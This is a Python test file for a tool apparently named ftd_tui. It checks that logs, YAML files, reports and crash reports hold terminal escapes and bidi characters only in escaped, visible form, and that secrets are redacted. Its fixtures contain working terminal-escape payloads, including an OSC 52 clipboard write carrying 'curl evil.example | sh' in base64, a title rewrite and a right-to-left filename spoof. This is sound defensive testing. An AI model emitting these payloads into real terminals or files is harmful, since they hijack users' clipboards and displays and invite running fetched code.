"""Files ftd writes into a project hold no control character but newline and tab, and no bidi
control: a critic answering with terminal escapes leaves them visible as text in the critique
log, never raw (a `cat` of the log in tmux must not rewrite the clipboard or the pane title)."""

from __future__ import annotations

import base64
import json
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from fakes.openai_server import FakeOpenAI
from helpers import yset
from tmuxhelp import Tmux, have_tmux

CANARY = "sk-canary-written-0123456789"
CLIP = base64.b64encode(b"curl evil.example | sh").decode()
# What a hostile (or confused) critic can answer: every family of terminal escape.
HOSTILE = ("Die Rubrik übersieht **indirekte** Risikosignale — ça arrive souvent.\n"
           f"\x1b]52;c;{CLIP}\x07"                            # OSC 52: set the clipboard
           "\x1b]0;pwned-title\x07"                           # OSC 0: set the window / pane title
           "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\ "  # OSC 8 hyperlink
           "\x1b[31;1mred alert\x1b[0m "                      # CSI colours
           "\x9b2J"                                           # a raw 8-bit CSI (U+009B): clear screen
           " user\u202eexe.txt\u202c\n"                       # RLO: shows one name, means another
           "2026-11-25 10:15:02 ERROR judge: 429 Too Many Requests\r\n"
           "Fix: add a criterion for indirect disclosures.")

# bytes a terminal acts on; and the C1 / bidi code points once decoded
RAW_CONTROL_BYTES = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]")
RAW_CONTROL_CHARS = re.compile("[\x80-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(autouse=True)
def env(monkeypatch):
    monkeypatch.setenv("FTD_TEST_KEY", CANARY)


def cli(*args):
    return subprocess.run([sys.executable, "-m", "ftd_tui", *args], capture_output=True, text=True, timeout=180)


def assert_inert(data: bytes, where: str) -> str:
    bad = RAW_CONTROL_BYTES.search(data)
    assert bad is None, f"{where}: raw byte {bad.group(0)!r} at {bad.start()}"
    text = data.decode("utf-8")
    bad = RAW_CONTROL_CHARS.search(text)
    assert bad is None, f"{where}: raw U+{ord(bad.group(0)):04X} at {bad.start()}"
    return text


def critique_with_hostile_critic(sample):
    root = sample("math-tutoring")
    with FakeOpenAI(default_text=HOSTILE) as fake:
        role = {"model": "openai/fake-model", "api_base": fake.base_url, "api_key_env": "FTD_TEST_KEY"}
        yset(root, "ftd.yaml", "models", {"critic": role, "judges": [role, role]})
        assert cli("trust", str(root)).returncode == 0
        fake.push({"match": "synthesise", "text": json.dumps({"proposals": [
            {"id": "P1", "title": "Schwelle \x1b]0;t\x07anheben", "rationale": "weil\u202e", "experts": ["A"],
             "severity": "critical", "target": "pass_threshold",
             "patch": {"file": "config/rubric.yaml", "find": "pass_threshold: 0.80",
                       "replace": "pass_threshold: 0.85 # \x1b]52;c;" + CLIP + "\x07"}},
            {"id": "P2", "title": "Plain wording", "rationale": "clearer", "experts": ["B"], "severity": "minor",
             "target": "wording", "patch": {"file": "config/rubric.yaml", "find": "pass_threshold: 0.80",
                                            "replace": "pass_threshold: 0.85"}},
        ]})})
        p = cli("critique", "rubric", str(root), "--yes")
        assert p.returncode == 0, p.stdout + p.stderr
        assert "\x1b" not in p.stdout and "\x9b" not in p.stdout and "\u202e" not in p.stdout
        # the critic really received the request and really answered with the escapes
        assert len(fake.requests) >= 2
    logs = sorted((root / "critiques" / "rubric").glob("*.md"))
    assert len(logs) == 1
    return root, logs[0]


@pytest.mark.slow
def test_critique_log_holds_the_escapes_visibly_never_raw(sample):
    from ftd_tui.core.project.project import Project
    from ftd_tui.services.critique.log import read_front, record_disposition
    from ftd_tui.services.critique.run import run_from_log

    root, log = critique_with_hostile_critic(sample)
    text = assert_inert(log.read_bytes(), log.name)
    # visible as text, so a reader sees what the model tried
    for shown in ("\\x1b]52;c;" + CLIP + "\\x07", "\\x1b]0;pwned-title\\x07", "\\x1b]8;;https://evil.example/",
                  "\\x1b[31;1mred alert", "\\x9b2J", "user\\u202eexe.txt\\u202c"):
        assert shown in text, shown
    assert "Die Rubrik übersieht **indirekte** Risikosignale — ça arrive souvent." in text  # non-English intact
    assert "429 Too Many Requests\nFix:" in text  # a pasted CRLF log line is just a line
    assert CANARY not in text
    # the front matter still reads, and the hostile replacement cannot be applied
    front = read_front(log)
    assert front["synthesis"] is True
    p1, p2 = front["proposals"]
    assert "control or bidi" in (p1["cannot_apply"] or "") and p2["cannot_apply"] is None
    run = run_from_log(Project.load(root), "rubric", log)
    assert "control or bidi" in run.proposals[0].problem and not run.proposals[1].problem
    # a reason pasted with an escape in it is recorded escaped too
    record_disposition(log, 0, "rejected", "kaputt \x1b[2J gepastet\u202e", None)
    text = assert_inert(log.read_bytes(), log.name)
    assert read_front(log)["proposals"][0]["disposition"] == "rejected"
    assert "\\x1b[2J" in text or "\\e[2J" in text or "\\u001b[2J" in text


def test_yaml_edits_escape_bidi_and_read_back_exactly():
    from ftd_tui.core.text.yamldoc import YamlDocument

    doc = YamlDocument.from_text("panels:\n  rubric: {}\n")
    name = "Dr. Ana\u202e Lima"
    new = doc.set("panels.rubric", {"experts": [{"name": name, "note": "zeile 1\nzeile \x1b[2J 2\u2067"}]}, create=True)
    assert_inert(new.text.encode(), "experts.yaml")
    back = YamlDocument.from_text(new.text).data["panels"]["rubric"]["experts"][0]
    assert back == {"name": name, "note": "zeile 1\nzeile \x1b[2J 2\u2067"}


def test_scenario_situations_and_decisions_are_written_escaped():
    from ftd_tui.core.evaluation.report import record_decision
    from ftd_tui.core.evaluation.scenarios import set_situation, write_scenarios
    from ftd_tui.core.text.yamldoc import YamlDocument

    situation = ("Maya, 15, schreibt spät nachts über Prüfungsangst.\n"
                 "Sie fügt einen Log ein: \x1b[31mERROR\x1b[0m und \u202eeinen Namen\u202c.")
    text = write_scenarios([{"id": "s01", "situation": situation}])
    assert_inert(text.encode(), "scenarios.yaml (new)")
    assert YamlDocument.from_text(text).data["scenarios"][0]["situation"] == situation
    again = set_situation(write_scenarios([{"id": "s01", "situation": "short"}]), "s01", situation)
    assert_inert(again.encode(), "scenarios.yaml (edited)")
    assert YamlDocument.from_text(again).data["scenarios"][0]["situation"] == situation
    # the report: a rationale pasted with an escape, and a report regenerated around it
    report = record_decision("---\nrun: {id: r1}\ndecision: {}\n---\n\n# Base-model evaluation\n", "stop",
                             "Jo\u202e", "weil die Judges\n\x1b]52;c;" + CLIP + "\x07 nicht stimmen", "2026-11-25")
    assert_inert(report.encode(), "base-model-eval-results.md")
    fm = YamlDocument.from_text(report.split("---\n")[1]).data
    assert fm["decision"]["rationale"].startswith("weil die Judges\n\x1b]52")


def test_report_sections_hold_no_raw_escape(monkeypatch):
    from ftd_tui.core.evaluation import report as eval_report

    monkeypatch.setattr(eval_report, "render_sections",
                        lambda summary: f"<!-- ftd:generated:start -->\n## Topics\n{HOSTILE}\n<!-- ftd:generated:end -->\n")
    for existing in (None, "---\nrun: {id: r0}\ndecision: {}\n---\n\nMeine Notizen.\n"):
        out = eval_report.update_report(existing, {"run": "r1", "inputs_hash": "sha256:ab", "pass_rate": 0.5,
                                                   "interval": [0.3, 0.7], "recommendation": "fine-tuning-likely-helps"})
        text = assert_inert(out.encode(), "report")
        assert "\\x1b]52;c;" in text and "\\x9b2J" in text


@pytest.mark.skipif(not have_tmux(), reason="tmux is not installed (.ci/run installs it)")
@pytest.mark.slow
@pytest.mark.e2e
def test_cat_of_the_log_in_tmux_leaves_clipboard_and_title_alone(sample, tmp_path):
    root, log = critique_with_hostile_critic(sample)
    raw = tmp_path / "raw.txt"
    raw.write_text(HOSTILE)  # the control: the same text raw does reach tmux

    def cat_in_tmux(path) -> tuple[str, str]:
        t = Tmux(tmp_path)
        try:
            t.tmux("new-session", "-d", "-s", "t", "-x", "100", "-y", "30", f"cat '{path}'; echo CAT-DONE; sleep 30")
            t.wait_for("CAT-DONE", what="cat")
            time.sleep(0.3)
            return (t.tmux("list-buffers", check=False),
                    t.tmux("display-message", "-p", "-t", "t", "#{pane_title}").strip())
        finally:
            t.kill()

    buffers, title = cat_in_tmux(raw)
    if "curl evil" not in buffers and title != "pwned-title":
        pytest.skip("this tmux acts on neither OSC 52 nor OSC 0: the check would prove nothing")
    buffers, title = cat_in_tmux(log)
    assert "curl evil" not in buffers and "pwned" not in buffers
    assert title != "pwned-title" and "pwned" not in title


# --------------------------------------------------------------------------- crash reports

TOKEN_CANARY = "acme-7f3a9c2e-canary-do-not-leak"  # not key-shaped: found by its variable's name
KEY_CANARY = "sk-proj-canaryCANARY0123456789abcd"   # key-shaped, never in the environment
PRIVATE = "Maya erwähnte am Dienstag Selbstverletzung"  # a local variable: never in a report

CLI_CRASH = f"""
import sys
import ftd_tui.cli as cli

def parse_judge_reply(reply):
    patient_note = {PRIVATE!r}
    raise ValueError("judge answered garbage for token " + reply + " \\x1b]52;c;{CLIP}\\x07 and {KEY_CANARY}")

def crashing_check(args):
    return parse_judge_reply(__import__("os").environ["ACME_PROXY_TOKEN"])

cli.COMMANDS["check"] = crashing_check
sys.exit(cli.main(["check", sys.argv[1]]))
"""


def crash_reports(state) -> list:
    return sorted((state / "crashes").glob("crash-*.txt"))


def assert_good_report(path, *frames: str) -> str:
    import stat as st

    assert st.S_IMODE(path.stat().st_mode) == 0o600
    body = assert_inert(path.read_bytes(), path.name)
    assert body.startswith("ftd ") and "crash report" in body.splitlines()[0]
    assert "Traceback (most recent call last):" in body
    for frame in frames:
        assert re.search(rf'File ".*", line \d+, in {frame}\n', body), frame
    assert TOKEN_CANARY not in body and KEY_CANARY not in body and "[redacted]" in body
    assert PRIVATE not in body  # frames only, no local variables
    return body


def test_a_cli_crash_is_one_line_and_a_full_redacted_report(sample, tmp_path, monkeypatch):
    import os

    root = sample("math-tutoring")
    monkeypatch.setenv("ACME_PROXY_TOKEN", TOKEN_CANARY)
    p = subprocess.run([sys.executable, "-c", CLI_CRASH, str(root)], capture_output=True, text=True, timeout=60)
    assert p.returncode == 70, p.stderr
    assert "Traceback" not in p.stderr and len(p.stderr.strip().splitlines()) == 1
    assert "internal error (ValueError)" in p.stderr
    assert TOKEN_CANARY not in p.stdout + p.stderr and KEY_CANARY not in p.stdout + p.stderr
    (report,) = crash_reports(Path(os.environ["FTD_STATE_DIR"]))
    assert str(report) in p.stderr
    body = assert_good_report(report, "main", "crashing_check", "parse_judge_reply")
    assert f"command: ftd check {root}" in body and "ValueError: judge answered garbage" in body
    assert "\\x1b]52;c;" in body  # the escape is shown, not acted on


def test_an_app_worker_crash_keeps_the_frames_of_the_error_it_wraps(sample, monkeypatch):
    import os

    from apphelp import editor, run, running

    root = sample("math-tutoring")
    monkeypatch.setenv("ACME_PROXY_TOKEN", TOKEN_CANARY)

    async def count_tokens_for_meter():
        patient_note = PRIVATE  # noqa: F841 - a local the report must not hold
        raise KeyError(f"no tokenizer for {os.environ['ACME_PROXY_TOKEN']} ({KEY_CANARY})")

    async def go():
        async with running(root) as (app, pilot):
            editor(app).focus()
            await pilot.press("z")  # unsaved work: kept as a draft on the way down
            app.run_worker(count_tokens_for_meter(), exit_on_error=True)
            await pilot.pause(0.3)

    with pytest.raises(Exception):
        run(go())
    (report,) = crash_reports(Path(os.environ["FTD_STATE_DIR"]))
    body = assert_good_report(report, "count_tokens_for_meter")
    assert "WorkerFailed" in body and "which wraps:" in body and "KeyError" in body
    assert list((Path(os.environ["FTD_STATE_DIR"]) / "drafts").rglob("*.json"))
